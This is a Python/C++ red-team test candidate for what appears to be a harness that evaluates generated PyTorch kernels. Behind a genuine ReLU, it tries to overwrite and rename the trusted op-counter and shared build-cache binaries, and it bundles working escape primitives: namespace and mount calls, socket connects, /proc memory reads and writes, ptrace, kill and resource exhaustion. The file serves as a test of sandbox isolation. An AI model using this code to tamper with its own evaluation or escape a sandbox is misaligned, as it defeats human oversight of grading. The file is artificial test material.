"""Isolation attack #27 (EVAL_RULES.md): overwrite the trusted op counter and shared builds.

Finds the build cache's trusted dir (the op-counter extension sandbox/rules/opcount.py builds) and
shared tier (from the CACHE placeholder and its own `--shared` arguments), then natively truncates and
overwrites every `.so` and `.ok` there, renames them, and plants a file next to them. At
import and in forward, errors swallowed.
Otherwise an honest ReLU (the shared relu extension).
Inert unless the test substitutes its placeholders (RUN first).

Task: relu. Expected: valid (both tiers are read-only binds: every write fails), the files' sha256 are
unchanged, and an honest candidate judged next is valid with the op counter loaded."""

import torch
import torch.nn as nn
from torch.utils.cpp_extension import load_inline

# --- shared extension (identical in every relu-task candidate, so the build cache compiles it once)
_RELU_CPP = r"""
#include <torch/extension.h>
#include <chrono>
#include <thread>

static void check_f32(const torch::Tensor& t, const char* what) {
    TORCH_CHECK(t.device().is_cpu(), what, " must be a CPU tensor");
    TORCH_CHECK(t.scalar_type() == torch::kFloat32, what, " must be float32");
    TORCH_CHECK(t.is_contiguous(), what, " must be contiguous");
}

void relu_into(torch::Tensor x, torch::Tensor out) {
    check_f32(x, "x");
    check_f32(out, "out");
    TORCH_CHECK(x.numel() == out.numel(), "x and out differ in size");
    const float* src = x.data_ptr<float>();
    float* dst = out.data_ptr<float>();
    const int64_t n = x.numel();
    for (int64_t i = 0; i < n; ++i) {
        const float v = src[i];
        dst[i] = v < 0.f ? 0.f : v;  // NaN stays NaN, like torch.relu
    }
}

torch::Tensor relu_new(torch::Tensor x) {
    auto xc = x.contiguous();
    auto out = torch::empty_like(xc);
    relu_into(xc, out);
    return out;
}

// Fire-and-forget: the work happens on a detached native thread after delay_us.
void relu_into_detached(torch::Tensor x, torch::Tensor out, int64_t delay_us) {
    check_f32(x, "x");
    check_f32(out, "out");
    std::thread([x, out, delay_us]() {
        std::this_thread::sleep_for(std::chrono::microseconds(delay_us));
        relu_into(x, out);
    }).detach();
}
"""

_lib = load_inline(
    name="redteam_relu_lib",
    cpp_sources=_RELU_CPP,
    functions=["relu_new", "relu_into", "relu_into_detached"],
    extra_cflags=["-O3"],
    verbose=False,
)
# --- end of shared extension
_relu = _lib.relu_new

# --- shared attack extension (identical in every isolation red-team candidate, CPU and GPU: one compile)
_ESCAPE_CPP = r"""
#include <torch/extension.h>
#include <cerrno>
#include <cstdio>
#include <cstring>
#include <string>
#include <vector>
#include <arpa/inet.h>
#include <dirent.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <sys/ipc.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <unistd.h>

// Every function returns what happened ("ok ..." or "ERR <call>: <strerror>") and never throws:
// a refused attack must leave the candidate running.
static std::string fail(const char* what) {
    return std::string("ERR ") + what + ": " + std::strerror(errno);
}

// printable ASCII only (NUL -> newline), so the string always converts to a Python str
static std::string printable(const char* p, size_t n) {
    std::string s;
    s.reserve(n);
    for (size_t i = 0; i < n; ++i) {
        const unsigned char c = (unsigned char)p[i];
        s += c == 0 ? '\n' : (c == '\n' || c == '\t' || (c >= 32 && c < 127)) ? (char)c : '?';
    }
    return s;
}

static std::string hex(const unsigned char* p, size_t n) {
    static const char* d = "0123456789abcdef";
    std::string s;
    for (size_t i = 0; i < n; ++i) { s += d[p[i] >> 4]; s += d[p[i] & 15]; }
    return s;
}

std::string write_file(std::string path, std::string text) {
    int fd = ::open(path.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
    if (fd < 0) return fail("open");
    ssize_t n = ::write(fd, text.data(), text.size());
    int e = errno;
    ::close(fd);
    errno = e;
    return n == (ssize_t)text.size() ? "ok" : fail("write");
}

std::string rename_path(std::string from, std::string to) {
    return ::rename(from.c_str(), to.c_str()) == 0 ? "ok" : fail("rename");
}

std::string read_file(std::string path, int64_t max_bytes) {
    int fd = ::open(path.c_str(), O_RDONLY | O_CLOEXEC);
    if (fd < 0) return fail("open");
    std::string buf((size_t)(max_bytes > 0 ? max_bytes : 1), '\0');
    size_t got = 0;
    while (got < buf.size()) {
        ssize_t n = ::read(fd, &buf[got], buf.size() - got);
        if (n < 0) { int e = errno; ::close(fd); errno = e; return fail("read"); }
        if (n == 0) break;
        got += (size_t)n;
    }
    ::close(fd);
    return printable(buf.data(), got);
}

std::vector<std::string> list_dir(std::string path) {
    std::vector<std::string> out;
    DIR* d = ::opendir(path.c_str());
    if (d == nullptr) return out;
    while (struct dirent* e = ::readdir(d)) {
        if (std::strcmp(e->d_name, ".") && std::strcmp(e->d_name, ".."))
            out.push_back(printable(e->d_name, std::strlen(e->d_name)));
    }
    ::closedir(d);
    return out;
}

std::string file_kind(std::string path) {
    struct stat st;
    if (::lstat(path.c_str(), &st) != 0) return fail("lstat");
    if (S_ISSOCK(st.st_mode)) return "sock";
    if (S_ISDIR(st.st_mode)) return "dir";
    if (S_ISREG(st.st_mode)) return "file";
    if (S_ISLNK(st.st_mode)) return "link";
    return "other";
}

std::string umount_path(std::string path, int64_t flags) {
    return ::umount2(path.c_str(), (int)flags) == 0 ? "ok" : fail("umount2");
}

std::string mount_fs(std::string source, std::string target, std::string fstype) {
    return ::mount(source.c_str(), target.c_str(), fstype.c_str(), 0, nullptr) == 0 ? "ok" : fail("mount");
}

std::string unshare_ns(int64_t flags) {
    return ::unshare((int)flags) == 0 ? "ok" : fail("unshare");
}

std::string setns_path(std::string path) {
    int fd = ::open(path.c_str(), O_RDONLY | O_CLOEXEC);
    if (fd < 0) return fail("open");
    int rc = ::setns(fd, 0);
    int e = errno;
    ::close(fd);
    errno = e;
    return rc == 0 ? "ok" : fail("setns");
}

// Connect, send msg, wait up to 300 ms for an answer. "ok ..." means the peer accepted.
static std::string talk(int fd, const struct sockaddr* addr, socklen_t len, const std::string& msg) {
    struct timeval tv = {1, 0};
    ::setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
    if (::connect(fd, addr, len) != 0) { int e = errno; ::close(fd); errno = e; return fail("connect"); }
    std::string out = "ok connected";
    if (!msg.empty()) {
        ssize_t n = ::send(fd, msg.data(), msg.size(), MSG_NOSIGNAL);
        out += n < 0 ? std::string(", send failed") : ", sent " + std::to_string(n);
    }
    struct pollfd p = {fd, POLLIN, 0};
    if (::poll(&p, 1, 300) > 0) {
        char buf[256];
        ssize_t n = ::recv(fd, buf, sizeof buf, MSG_DONTWAIT);
        if (n > 0) out += ", got: " + printable(buf, (size_t)n);
    }
    ::close(fd);
    return out;
}

// "@name" is an abstract socket
std::string connect_unix(std::string path, std::string msg) {
    int fd = ::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (fd < 0) return fail("socket");
    struct sockaddr_un a;
    std::memset(&a, 0, sizeof a);
    a.sun_family = AF_UNIX;
    socklen_t len;
    if (!path.empty() && path[0] == '@') {
        const size_t n = std::min(path.size() - 1, sizeof(a.sun_path) - 1);
        std::memcpy(a.sun_path + 1, path.data() + 1, n);
        len = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + n);
    } else {
        std::strncpy(a.sun_path, path.c_str(), sizeof(a.sun_path) - 1);
        len = (socklen_t)sizeof a;
    }
    return talk(fd, (struct sockaddr*)&a, len, msg);
}

std::string connect_tcp(std::string host, int64_t port, std::string msg) {
    int fd = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (fd < 0) return fail("socket");
    struct sockaddr_in a;
    std::memset(&a, 0, sizeof a);
    a.sin_family = AF_INET;
    a.sin_port = htons((uint16_t)port);
    if (::inet_pton(AF_INET, host.c_str(), &a.sin_addr) != 1) { ::close(fd); return "ERR bad address"; }
    return talk(fd, (struct sockaddr*)&a, sizeof a, msg);
}

// /proc/<pid>/mem: read n bytes at addr ("ok <hex>")
std::string mem_read(int64_t pid, int64_t addr, int64_t n) {
    const std::string path = "/proc/" + std::to_string(pid) + "/mem";
    int fd = ::open(path.c_str(), O_RDONLY | O_CLOEXEC);
    if (fd < 0) return fail("open mem");
    std::vector<unsigned char> buf((size_t)(n > 0 && n <= 4096 ? n : 16));
    ssize_t got = ::pread(fd, buf.data(), buf.size(), (off_t)addr);
    int e = errno;
    ::close(fd);
    errno = e;
    return got < 0 ? fail("pread mem") : "ok " + hex(buf.data(), (size_t)got);
}

// /proc/<pid>/mem: flip one byte at addr (the corruption form)
std::string mem_flip(int64_t pid, int64_t addr) {
    const std::string path = "/proc/" + std::to_string(pid) + "/mem";
    int fd = ::open(path.c_str(), O_RDWR | O_CLOEXEC);
    if (fd < 0) return fail("open mem rw");
    unsigned char b = 0;
    if (::pread(fd, &b, 1, (off_t)addr) != 1) { int e = errno; ::close(fd); errno = e; return fail("pread mem"); }
    b ^= 0xff;
    ssize_t w = ::pwrite(fd, &b, 1, (off_t)addr);
    int e = errno;
    ::close(fd);
    errno = e;
    return w == 1 ? "ok flipped" : fail("pwrite mem");
}

std::string vm_read(int64_t pid, int64_t addr) {
    unsigned char b[16];
    struct iovec local = {b, sizeof b}, remote = {(void*)(uintptr_t)addr, sizeof b};
    ssize_t n = ::process_vm_readv((pid_t)pid, &local, 1, &remote, 1, 0);
    return n < 0 ? fail("process_vm_readv") : "ok " + hex(b, (size_t)n);
}

std::string ptrace_attach(int64_t pid) {
    if (::ptrace(PTRACE_ATTACH, (pid_t)pid, nullptr, nullptr) != 0) return fail("ptrace");
    ::ptrace(PTRACE_DETACH, (pid_t)pid, nullptr, nullptr);
    return "ok attached";
}

std::string kill_pid(int64_t pid, int64_t sig) {
    return ::kill((pid_t)pid, (int)sig) == 0 ? "ok" : fail("kill");
}

// Write `bytes` of data into `path` (tmpfs pages are allocated by the writes). Left in place.
std::string fill_file(std::string path, int64_t bytes) {
    int fd = ::open(path.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
    if (fd < 0) return fail("open");
    std::vector<char> chunk(16 << 20, 'Z');
    int64_t done = 0;
    std::string why;
    while (done < bytes) {
        const size_t want = (size_t)std::min<int64_t>((int64_t)chunk.size(), bytes - done);
        ssize_t n = ::write(fd, chunk.data(), want);
        if (n <= 0) { why = fail("write"); break; }
        done += n;
    }
    ::close(fd);
    return "wrote " + std::to_string(done) + (why.empty() ? "" : " " + why);
}

std::string memfd_fill(int64_t bytes) {
    int fd = (int)::syscall(SYS_memfd_create, "kh-redteam", 0);
    if (fd < 0) return fail("memfd_create");
    int rc = ::ftruncate(fd, (off_t)bytes);
    return rc == 0 ? "ok memfd of " + std::to_string(bytes) : fail("ftruncate");  // fd kept open on purpose
}

std::string shm_fill(int64_t bytes) {
    int id = ::shmget(IPC_PRIVATE, (size_t)bytes, IPC_CREAT | 0600);
    if (id < 0) return fail("shmget");
    void* p = ::shmat(id, nullptr, 0);
    if (p == (void*)-1) return fail("shmat");
    std::memset(p, 'Z', (size_t)bytes);
    return "ok shm segment of " + std::to_string(bytes);
}
"""

_esc = load_inline(
    name="redteam_escape_lib",
    cpp_sources=_ESCAPE_CPP,
    functions=[
        "write_file",
        "rename_path",
        "read_file",
        "list_dir",
        "file_kind",
        "umount_path",
        "mount_fs",
        "unshare_ns",
        "setns_path",
        "connect_unix",
        "connect_tcp",
        "mem_read",
        "mem_flip",
        "vm_read",
        "ptrace_attach",
        "kill_pid",
        "fill_file",
        "memfd_fill",
        "shm_fill",
    ],
    extra_cflags=["-O2"],
    verbose=False,
)
# --- end of shared attack extension

RUN = "__RUN__"  # the test puts a unique id here; left as it is, every attack below stays off
ARMED = not RUN.startswith("__")
_found: list[str] = []  # what got through; forward raises it, so it reaches the verdict's logs


def _note(what: str, result: str) -> str:
    print(f"[redteam {RUN}] {what}: {result}", flush=True)
    return result


def _attempt(when: str) -> None:
    try:
        _attack(when)
    except BaseException as e:  # noqa: BLE001 - a refused attack must not stop the kernel
        _note(f"{when}: the attack raised", repr(e))


FORWARD_ATTACKS = 1
CACHE = "__CACHE__"  # the build cache root; an attacker reads it off its own command line too


def _tiers() -> list[str]:
    tiers = [f"{CACHE}/trusted", f"{CACHE}/shared"] if ARMED else []
    argv = _esc.read_file("/proc/self/cmdline", 1 << 16).split("\n")
    tiers += [argv[i + 1] for i, a in enumerate(argv[:-1]) if a == "--shared"]
    return list(dict.fromkeys(tiers))


def _attack(when: str) -> None:
    for tier in _tiers():
        for build in _esc.list_dir(tier):
            d = f"{tier}/{build}"
            if _esc.file_kind(d) != "dir":
                continue
            _note(f"{when}: plant in {d}", _esc.write_file(f"{d}/.kh-redteam-{RUN}", "planted\n"))
            for name in _esc.list_dir(d):
                if name.endswith(".so") or name == ".ok":
                    p = f"{d}/{name}"
                    if _note(f"{when}: overwrite {p}", _esc.write_file(p, "\x7fELF pwned by the candidate\n")) == "ok":
                        _found.append(f"{when}: overwrote {p}")
                    if _note(f"{when}: rename {p}", _esc.rename_path(p, f"{p}.kh-redteam-{RUN}")) == "ok":
                        _found.append(f"{when}: moved {p}")


if ARMED:
    _attempt("import")


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()
        self.calls = 0

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        self.calls += 1
        if ARMED and self.calls <= FORWARD_ATTACKS:
            _attempt(f"forward {self.calls}")
        if _found:
            raise RuntimeError("the attack got through: " + " | ".join(_found))
        return _relu(x)
